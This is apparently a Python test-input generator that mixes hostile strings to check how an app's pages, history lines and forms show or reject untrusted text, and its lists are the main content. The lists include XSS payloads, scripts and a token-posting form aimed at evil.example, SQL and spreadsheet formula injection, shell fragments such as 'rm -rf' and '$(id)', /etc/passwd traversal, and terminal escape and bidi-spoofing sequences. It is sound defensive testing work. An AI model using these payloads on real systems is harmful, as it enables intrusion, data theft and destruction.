"""Ten thousand texts that were written to harm whoever shows them, and what a page may show of each."""

import random
import unicodedata

SEED = 20261128

CONTROLS = [chr(code) for code in [*range(0x00, 0x20), *range(0x7F, 0xA0)]]

ESCAPES = [
    "\x1b[2J", "\x1b[H", "\x1b[31m", "\x1b[1;5;41mĐỎ", "\x1b[9999C", "\x1b[6n", "\x1b]0;tiêu đề\x07", "\x1b]2;x\x1b\\",
    "\x1b]8;;http://evil.example\x07bấm\x1b]8;;\x07", "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1bP$q\"p\x1b\\", "\x1b_x\x1b\\",
    "\x1bc", "\x1b(0", "\x1b[?1049h", "\x1b[?25l", "\x9b31m", "\x9b2J", "\x9d0;x\x9c", "\x90x\x9c", "\x0elqqk\x0f",
    "\x08\x08\x08", "x\rĐÃ DUYỆT", "a\r\nb", "a\n\nb", "\t\t", "\x1b", "\x85", "\x00", "\x00<b>", "a\x00b",
]

BIDI = [
    "\u202egnp.exe", "\u202a", "\u202b", "\u202c", "\u202d", "\u2066x\u2069", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c",
    "\u2069\u2069\u2069", "\u202e\u2066// chờ duyệt\u2069\u2066", "\u206a", "עברית", "العربية", "1 עברית 2", "(עברית)", "א" * 20,
    "שלום, <b>", "٣٤٥", "ـ", "עברית\u202cabc",
]

HIDDEN = [
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\xad", "\u180e", "\u3164", "\u115f", "\uffa0", "\ufff9x\ufffay\ufffb",
    "\U000e0041\U000e007f", "\u2028", "\u2029", "\U0001d173", "\ufffe", "\uffff", "\ue000", "\U0010ffff", "a\u200bdmin", "\u2061",
    "\u2800", "\u3000", "\xa0", "<scr\u200bipt>", "\u034f", "\ufe0f", "\U000e0100", "👩\u200d👧",
]

MARKUP = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)//", "</script><script>alert(1)</script>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<img/src=`x`onerror=alert(1)>", "\"><svg/onload=alert(1)>", "'><svg onload=alert(1)>",
    "' onmouseover='alert(1)' x='", "\" onfocus=\"alert(1)\" autofocus x=\"", "` onclick=`alert(1)`", " autofocus onfocus=alert(1) ",
    "</td></tr></table>", "</bdi></td>", "</span></bdi><h1>ĐÃ DUYỆT</h1>", "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>", "</select></form><form action=//evil.example><input name=token>", "<!--", "-->",
    "--!><b>", "<![CDATA[", "]]>", "<?xml version='1.0'?>", "<!DOCTYPE html>", "<style>*{display:none}</style>",
    "</style><img src=x>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html,x>", "<embed src=x>", "<video><source onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<a href=\"//evil.example\">", "<a href=javascript:alert(1)>x</a>", "<form action=javascript:alert(1)><button>",
    "<button formaction=javascript:alert(1)>", "<input onfocus=alert(1) autofocus>", "<math><mtext><img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href=data:image/svg+xml,x>", "<svg><style>*{fill:red}",
    "<body onload=alert(1)>", "<marquee onstart=alert(1)>", "<template><script>alert(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<plaintext>", "<xmp>", "<bdo dir=rtl>", "<p dir=rtl>", "<div style=position:fixed;inset:0>", "<div class=\"notice good\">Đã duyệt</div>",
    "<b id=main>", "<slot>", "<dialog open>", "<", ">", "\"", "'", "`", "=", "/", "<<", "<\x00script>alert(1)</script>", "＜script＞",
]

ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
    "//evil.example", "https://evil.example/?q=<x>", "/\\evil.example", "/console/sign-out", "#main", "?done=resolved", "&done=resolved",
    "%3Cscript%3E", "%00", "%0d%0aSet-Cookie: a=b", "..%2f", "style=color:red", "url(javascript:alert(1))", "expression(alert(1))",
    "@import '//evil.example'", "x:expression(1)", "mailto:a@evil.example",
]

ENTITIES = [
    "&lt;b&gt;", "&#0;", "&#x202E;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;", "&", "&&", "&x", "&notin", "&quot;", "&#39;",
    "&NewLine;", "&Tab;", "&zwj;", "&rlm;", "&#xD800;", "&#x110000;", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{constructor.constructor('alert(1)')()}}",
]

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", "＋1", "－1", "＠x",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "\"=1\"", "a\",=1,\"b", ";=1", "'=1", "\u200b=1", "\x1b=1", "=IMPORTXML(\"//evil.example\")",
]

STATEMENTS = [
    "'; DROP TABLE documents; --", "\" OR 1=1 --", "x') UNION SELECT value FROM meta --", "%", "_", "\\", "NULL", "title:*", "NEAR(a b)",
    "a\" OR \"b", "*", "^x", "-- ", "/* */", "?1", ":a", "$1", "`id`", "$(id)", "%s%n%x", "{0}{1}", "../../etc/passwd", "; rm -rf", "&&",
    # What only looks like an escape, a surrogate's among them, is text.
    "\\u001b[2J", "\\x1b", "\\ud800", "\\udfff\\ud800", "\\u202e", "%ED%A0%80", "\ufffd", "\\0",
]

PLAIN = [
    "Đèn đường hỏng", "Ngõ 12 đường Lê Thánh Tông", "a", "日本語", "한글", "🙂", "ｆｕｌｌ", "e\u0301\u0323\u0302", "o\u031b" + "\u0301" * 6,
    "\u0301", "Z" + "\u0353\u0300" * 20, " ", "  ", "Tổ 3", "…", "«»", "⟨202E⟩", "0", "-", "12345678901", "x" * 90,
]

FAMILIES = [CONTROLS, ESCAPES, BIDI, HIDDEN, MARKUP, MARKUP, ADDRESSES, ENTITIES, FORMULAS, STATEMENTS, PLAIN]


class Texts:
    """Gives text after text, each another one; or, for a ward of the same shape, a harmless one in place of each."""

    def __init__(self, harmless: bool) -> None:
        self.random = random.Random(SEED)
        self.harmless = harmless
        self.given: list[str] = []
        self._seen: set[str] = set()

    def text(self, most: int = 160, fits=lambda text: True) -> str:
        """A text of at most so many bytes of UTF-8 that fits where it is to stand."""
        while True:
            text = ""
            for _ in range(self.random.randint(1, 4)):
                more = text + self.random.choice(self.random.choice(FAMILIES))
                if len(more.encode()) > most:
                    break
                text = more
            if text and text not in self._seen and fits(text):
                break
        self._seen.add(text)
        return self._give(text)

    def long(self, bytes: int) -> str:
        """A text that is as long as the field may be, without a place to break it."""
        text = f"{len(self.given)}"
        piece = self.random.choice(["<b>", "\u202eא", "Ắ", "&amp;", "=1+"])
        while len((text + piece).encode()) <= bytes:
            text += piece
        self._seen.add(text)
        return self._give(text)

    def _give(self, text: str) -> str:
        self.given.append(text)
        return f"chữ thường {len(self.given)}" if self.harmless else text


def is_control(character: str) -> bool:
    """Whether a terminal would obey it, or could not show it."""
    return (unicodedata.category(character) in ("Cc", "Cf", "Cs") or character in "\u115f\u3164\uffa0"
            or "\ufff0" <= character <= "\ufff8")


def is_hidden(character: str) -> bool:
    """Whether a reader could not see it, or it would turn what stands around it; an emoji's selectors may stand."""
    return (is_control(character) or character in "\u034f\u17b4\u17b5\u180b\u180c\u180d\u180f"
            or "\ufe00" <= character <= "\ufe0d" or "\U000e0000" <= character <= "\U000e0fff")


def shown(text: str) -> str:
    """The rule of `HTMLText`, said again by somebody else: what the text of a page is."""
    out = []
    for place, character in enumerate(text):
        if character in "\n\r\x85\u2028\u2029":
            if character != "\n" or place == 0 or text[place - 1] != "\r":
                out.append("\n")
        elif character == "\t":
            out.append(" ")
        elif is_hidden(character):
            out.append(f"⟨{ord(character):04X}⟩")
        else:
            out.append(character)
    return "".join(out)


def line(text: str) -> str:
    """The same for a line of a history, which leaves out what a terminal must not get."""
    out = []
    for place, character in enumerate(text):
        if character in "\n\r\x85\u2028\u2029":
            if character != "\n" or place == 0 or text[place - 1] != "\r":
                out.append(" ")
        elif character == "\t":
            out.append(" ")
        elif not is_control(character) and (out or unicodedata.category(character) not in ("Mn", "Me")):
            out.append(character)
    return shown("".join(out))


def is_typed(text: str) -> bool:
    """Whether a command line or a form takes it as it is: no zero byte, composed, nothing around it to cut off."""
    return ("\x00" not in text and text == text.strip() and text[:1] > " " and text[-1:] > " "
            and text == unicodedata.normalize("NFC", text))


def is_name(text: str) -> bool:
    """Whether people and wards may be called so: on one line, whatever else it does."""
    return is_typed(text) and not any(ord(character) < 0x20 for character in text)


def is_seen(text: str) -> bool:
    """Whether imports and settings, which take out what cannot be seen, leave it as it is."""
    return (is_typed(text) and not any(is_hidden(c) or unicodedata.category(c) in ("Co", "Cn", "Zl", "Zp") for c in text)
            and not set(text) & set(";=#\n\r|+\ufe0e\ufe0f"))
